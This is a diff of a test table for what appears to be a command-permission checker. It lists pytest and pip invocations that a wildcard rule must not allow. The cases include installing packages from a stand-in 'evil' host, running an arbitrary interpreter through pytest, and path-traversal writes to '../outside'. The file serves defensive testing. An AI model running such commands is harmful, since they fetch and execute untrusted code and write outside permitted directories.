@@ -410,6 +410,8 @@ describe("U11 what a wildcard does not cover", () => {
     ["pytest", "pytest --tx popen//python=./evil", "pytest --tb short"],
     ["pytest", "pytest --cov-report html:../outside", "pytest --cov-report=term-missing"],
     ["pytest", "pytest --html=../outside/a.html", "pytest --cov-report html"],
+    ["pytest", "pytest --benchmark-json=../outside/out", "pytest --benchmark-skip"],
+    ["pytest", "pytest --benchmark-storage=../outside", "pytest --benchmark-only"],
     ["pip", "pip install -f http://evil a", "pip install -e ."],
     ["pip", "pip install -fevil a", "pip install -c constraints.txt a"],
     ["pip", "pip install https://evil/a.whl", "pip install 'a>=1,<2'"],
